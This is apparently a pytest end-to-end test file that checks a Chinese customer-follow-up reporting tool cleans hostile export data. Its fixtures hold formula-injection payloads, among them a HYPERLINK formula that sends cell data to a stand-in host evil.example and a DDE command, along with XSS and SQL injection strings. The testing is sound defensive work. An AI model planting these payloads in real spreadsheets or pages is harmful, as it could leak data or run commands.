"""Real exports carry control bytes, formulas, HTML, emoji and bidi overrides: none may break or poison a report."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from reporting.export.files import write_records_csv
from reporting.intake.hygiene import clean_text
from tests.conftest import WEEK, libreoffice_resave, only_our_scripts, run_cli, weekly_args

pytestmark = pytest.mark.e2e  # every test runs the weekly report on a hostile export

FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A2,"查看进度")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)")
HOSTILE = (
    "\x08服务太慢了，很不满意",
    "\x0b等了三天\x0c才上门\x1b[31m",
    "空\x00字符和\x85下一行",
    "<script>alert('x')</script>师傅态度差",
    "<img src=x onerror=alert(1)>",
    "'; DROP TABLE records; --",
    "👍🏽👨‍👩‍👧 很满意，师傅很专业",
    "\u202e反转的文字\u202c，还有\u2066隔离\u2069",
    "慢" * 5000,
    *FORMULAS,
)
NAME, PHONE = "欧阳\x08建国", "13912345678"
SPREADSHEET_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def hostile_export(records: pd.DataFrame, texts: tuple[str, ...], path: Path) -> Path:
    """The demo records with ``texts`` in the comments, suggestions and names of the report week's completed rows."""
    frame = records.astype(object)
    in_week = frame.index[frame["visit_at"].between(f"{WEEK[0]} 00:00", f"{WEEK[1]} 23:59") & frame["status"].eq("完成")]
    for position, text in enumerate(texts):
        row = in_week[position * 3 % len(in_week)]
        frame.loc[row, "comment"] = text
        frame.loc[row, "suggestion"] = texts[-1 - position]
        frame.loc[row, "overall_satisfaction"] = "１" if position % 2 else 2  # full-width digits are still a score
    frame.loc[in_week[1], ["customer_name", "phone"]] = [NAME, PHONE]
    rejected = in_week[2]
    frame.loc[rejected, "overall_satisfaction"] = "=1+1"  # not a score: goes to the ledger, value and all
    write_records_csv(frame, path)
    return path


def formula_cells(workbook: Path) -> list[str]:
    """Cells of any sheet stored as formulas (read from the XML itself)."""
    with zipfile.ZipFile(workbook) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        return [name for name in sheets if re.search(rb"<f[ >/]", archive.read(name))]


def live_csv_cells(path: Path) -> list[str]:
    """CSV cells that Excel / WPS would evaluate."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    return [c for c in cells if c.startswith(SPREADSHEET_TRIGGERS) and not c.lstrip("+-").replace(".", "", 1).isdigit()]


def check_artefacts(folder: Path, texts: tuple[str, ...]) -> None:
    """What every report folder must hold whatever the input: files that open, nothing live, PII masked, ledger exact."""
    metrics = json.loads((folder / "metrics.json").read_text(encoding="utf-8"))
    ledger = metrics["ledger"]
    assert ledger["read"] == ledger["imported"] + ledger["duplicates"] + ledger["rejected"]
    assert ledger["imported"] == ledger["analysed"] + ledger["outside_period"]
    assert formula_cells(folder / "workbook.xlsx") == []
    book = openpyxl.load_workbook(folder / "workbook.xlsx")
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)
    assert live_csv_cells(folder / "rejects.csv") == []
    html = (folder / "report.html").read_text(encoding="utf-8")
    assert "<script" not in only_our_scripts(html) and "<img src=x" not in html and "\x08" not in html and "\u202e" not in html
    for artefact in ("report.html", "metrics.json", "rejects.csv"):
        text = (folder / artefact).read_text(encoding="utf-8-sig")
        assert PHONE not in text and "欧阳建国" not in text, artefact
    cells = " ".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None)
    assert PHONE not in cells and "欧阳建国" not in cells
    assert "report.pdf" in {p.name for p in folder.iterdir()} and (folder / "report.pdf").stat().st_size > 10_000


@pytest.fixture(scope="module")
def hostile_run(small_records, tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    source = hostile_export(small_records, HOSTILE, root / "export.csv")
    store = f"sqlite:///{root / 'plans.db'}"
    result = run_cli(*weekly_args(source, "-p", "followup_store", store, "--output-dir", str(root / "out")))
    return result, root / "out" / "weekly" / f"{WEEK[0]}_{WEEK[1]}", store


def test_a_hostile_export_gives_a_complete_report(hostile_run):
    result, folder, _ = hostile_run
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    check_artefacts(folder, HOSTILE)
    metrics = json.loads((folder / "metrics.json").read_text(encoding="utf-8"))
    # cells that lost a control character: each hostile text sits in one comment and one suggestion, the name in one cell
    assert metrics["ledger"]["controls_removed"] == 2 * sum(clean_text(t)[1] for t in HOSTILE) + 1 == 9
    assert "另有" in (folder / "report.html").read_text(encoding="utf-8")  # the data-quality note counts them


def test_formulas_from_data_stay_text_in_the_workbook_and_escaped_in_csv(hostile_run):
    _, folder, _ = hostile_run
    sheet = openpyxl.load_workbook(folder / "workbook.xlsx")["客户回访记录表"]
    header = [c.value for c in sheet[1]]
    comments = {row[header.index("客户反馈")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(FORMULAS) <= comments  # shown as the customer wrote it, not evaluated
    assert clean_text(HOSTILE[0])[0] in comments and "\x08服务太慢了，很不满意" not in comments
    with (folder / "rejects.csv").open(encoding="utf-8-sig", newline="") as handle:
        values = [row["取值"] for row in csv.DictReader(handle)]
    assert "'=1+1" in values


def test_the_hostile_workbook_survives_libreoffice(hostile_run, tmp_path):
    _, folder, _ = hostile_run
    converted = libreoffice_resave(folder / "workbook.xlsx", tmp_path)
    assert formula_cells(converted) == []
    written, saved = openpyxl.load_workbook(folder / "workbook.xlsx"), openpyxl.load_workbook(converted)
    for name in written.sheetnames:
        assert list(saved[name].iter_rows(values_only=True)) == list(written[name].iter_rows(values_only=True)), name


def test_staff_results_that_look_like_formulas_round_trip_exactly(hostile_run, tmp_path):
    _, folder, store = hostile_run
    book = openpyxl.load_workbook(folder / "workbook.xlsx")
    sheet = book["客户跟进计划表"]
    column = {cell.value: cell.column for cell in sheet[1]}
    result = sheet.cell(2, column["跟进结果简述"])
    result.value, result.data_type = "=已电话回访，客户确认解决", "s"  # typed as text (Excel: a leading apostrophe)
    sheet.cell(2, column["当前状态"]).value = "已完成"
    sheet.cell(2, column["实际跟进时间"]).value = sheet.cell(2, column["回访时间"]).value + timedelta(hours=2)
    item = sheet.cell(2, column["跟进编号"]).value
    book.save(tmp_path / "filled.xlsx")
    imported = run_cli("import-followups", str(tmp_path / "filled.xlsx"), "--store", store)
    assert imported.returncode == 0, imported.stderr
    from reporting.followup.tracking import load_items

    stored = load_items(store, ids=[item])
    assert stored["result"].tolist() == ["=已电话回访，客户确认解决"]


hostile_text = st.text(
    alphabet=st.one_of(
        st.characters(codec="utf-8", exclude_categories=("Cs",)),
        st.sampled_from(["\x00", "\x08", "\x0b", "\x1b", "\x85", "\u202e", "\u2066", "=", "+", "@", "<", ">", "&", "'", '"']),
        st.sampled_from(["１", "\r", "\t", "\n"]),
    ),
    min_size=1,
    max_size=60,
)


@settings(max_examples=3, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(hostile_text, min_size=3, max_size=6))
def test_any_text_in_every_free_text_and_name_field_gives_a_complete_report(small_records, tmp_path, texts):
    run_dir = tmp_path / f"run-{abs(hash(tuple(texts)))}"
    source = hostile_export(small_records, tuple(texts), run_dir / "export.csv")
    result = run_cli(*weekly_args(source, "-p", "followup_store", "none", "--output-dir", str(run_dir / "out")))
    assert result.returncode == 0, result.stderr
    check_artefacts(run_dir / "out" / "weekly" / f"{WEEK[0]}_{WEEK[1]}", tuple(texts))
